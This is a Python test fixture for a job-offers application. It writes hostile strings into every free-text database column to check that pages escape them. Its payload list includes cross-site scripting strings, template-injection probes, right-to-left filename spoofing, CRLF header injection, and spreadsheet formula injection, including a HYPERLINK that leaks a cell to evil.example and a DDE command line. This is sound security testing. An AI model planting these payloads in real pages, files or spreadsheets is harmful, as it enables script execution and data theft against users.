"""The small catalogue with hostile text in every column that holds any."""

import itertools
import json
import sqlite3
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import Any

from offers.database import connect
from offers.search import index_offers
from tests.catalogue import make_catalogue

#: What would run sets this in the window; what would be fetched is at this host.
RAN, HOST = "window.ran=1", "evil.example"
PAYLOADS = (
    f"<script>{RAN}</script>",
    f'"><img src=x onerror="{RAN}">',
    f"'><svg onload='{RAN}'>",
    f"javascript:{RAN}",
    f" JaVa\tScRiPt:{RAN}//https://a.example",
    f"</script><script>{RAN}</script>",
    f"]]>--></title></style></textarea><script>{RAN}</script>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RAN}>",
    f'" autofocus onfocus="{RAN}" x="',
    f"<iframe srcdoc='<script>parent.{RAN[7:]}</script>'></iframe>",
    f"<link rel=stylesheet href=//{HOST}/x.css><base href=//{HOST}/><meta http-equiv=refresh content=0;url=//{HOST}>",
    "{{7*7}}${7*7}{%raise%}#{7*7}<%=7*7%>",
    "\u202egnp.exe\u202c \u2066x\u2069",
    '=HYPERLINK("http://evil.example/?"&A1;"ouvrir")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    f"data:text/html,<script>{RAN}</script>",
    f"https://{HOST}/\" onmouseover=\"{RAN}",
    f"//{HOST}/x",
    "\r\nSet-Cookie: ran=1\r\n\r\n<script>window.ran=1</script>",
    "BEGIN:VEVENT\nATTACH:http://evil.example/x\nEND:VEVENT",
)  # fmt: skip
#: What the program itself writes, and pages find their way by.
KEPT = {
    ("offers", "closed_on"), ("offers", "city_code"), ("offers", "region_code"), ("offers", "contract_code"), ("postings", "closed_on"),
    ("offer_facts", "closed_on"), ("sources", "name"), ("postings", "source"), ("runs", "source"),
}  # fmt: skip
#: Lists of ours, and what SQLite keeps of the index.
OURS = ("sqlite_", "offer_search_", "vocabular", "_sqlite", "day_counts", "counted_days", "facet_counts", "methods", "stamps")  # fmt: skip


def make_hostile(path: str | Path) -> tuple[str, set[str]]:
    """Write the catalogue to PATH, every text in it one of PAYLOADS; return it, and the columns that are."""
    make_catalogue(path)
    spoiled = set()
    with closing(sqlite3.connect(path)) as db:
        _fill(db)
        for table, column in _texts(db):
            if _spoil(db, table, column):
                spoiled.add(f"{table}.{column}")
        db.commit()
    made = connect(path)
    with made.atomic():
        index_offers(made, [row["id"] for row in made.query("select id from offers")])
    made.close()
    return str(path), spoiled


def _fill(db: sqlite3.Connection) -> None:
    """Give a row to tables that the small catalogue leaves empty."""
    db.executescript("""
        insert into rejects (run, source, reason, payload, rejected_at) values (1, 'alpha', 'x', '{"title": "x"}', '2026-11-20');
        insert into posting_versions (posting, run, seen_at, changes) values (1, 1, '2026-11-20', '{"salary": ["1", "2"]}');
        insert into overrides (left_source, left_ref, right_source, right_ref, verdict, why, who, decided_at)
            values ('alpha', '103', 'beta', '103', 'same', 'x', 'x', '2026-11-20');
        insert into alerts (source, verdict, since) values ('alpha', 'x', '2026-11-20');
        insert into hosts (host, not_before, why) values ('x', '2026-11-20', 'x');
        insert into forgotten (kind, value, why, who, forgotten_at) values ('url', 'x', 'x', 'x', '2026-11-20');
        insert into boilerplate (source, line) values ('alpha', 'x');
    """)


def _texts(db: sqlite3.Connection) -> Iterator[tuple[str, str]]:
    tables = "select name from sqlite_master where type = 'table' and sql not like 'create virtual%' order by name"
    for (table,) in db.execute(tables).fetchall():
        if not table.startswith(OURS):
            for column in db.execute(f"pragma table_info([{table}])").fetchall():
                if column[2].lower() == "text" and not _kept(table, column[1]):
                    yield table, column[1]


def _kept(table: str, column: str) -> bool:
    """Tell whether a column holds what only the program writes: days and moments, how pay is counted, what rows are joined by."""
    moments = column.endswith(("_on", "_at", "_seen", "since", "month", "not_before"))
    codes = column.startswith("salary_") or column == "pay_tax"
    return moments or codes or (table, column) in KEPT


def _spoil(db: sqlite3.Connection, table: str, column: str) -> bool:
    """Write payloads into COLUMN, each row another; a value that must be one of a few, or unique, is left."""
    spoiled, key = False, _key(db, table)
    code = column.endswith(("_code", "_codes")) or column == "language"
    rows = db.execute(f"select {key}, [{column}] from [{table}] limit {4 * len(PAYLOADS)}")
    for number, (row, value) in enumerate(rows.fetchall(), sum(map(ord, column))):
        try:
            db.execute(
                f"update [{table}] set [{column}] = ? where {key} = ?",
                [_bad(value, number, code), row],
            )
            spoiled = True
        except sqlite3.IntegrityError:  # this one is held by the schema itself
            continue
    return spoiled


def _key(db: sqlite3.Connection, table: str) -> str:
    sql = db.execute("select sql from sqlite_master where name = ?", [table]).fetchone()[0]
    if "without rowid" not in sql.lower():
        return "rowid"
    return next(row[1] for row in db.execute(f"pragma table_info([{table}])") if row[5])


def _bad(value: str | None, start: int, code: bool) -> str:
    """Return a payload in the shape of VALUE: JSON stays JSON, with payloads in it; a CODE turns no line round."""
    fit = [payload for payload in PAYLOADS if not code or "\u202e" not in payload]
    payloads = itertools.islice(itertools.cycle(fit), start % len(fit), None)
    try:
        known = json.loads(value or "")
    except ValueError:
        return next(payloads)
    return json.dumps(_spoiled(known, payloads)) if isinstance(known, dict | list) else next(payloads)  # fmt: skip


def _spoiled(value: Any, payloads: Iterator[str]) -> Any:
    match value:
        case dict():
            return {key: _spoiled(inner, payloads) for key, inner in value.items()}
        case list():
            return [_spoiled(inner, payloads) for inner in value]
        case str():
            return next(payloads)
        case _:
            return value
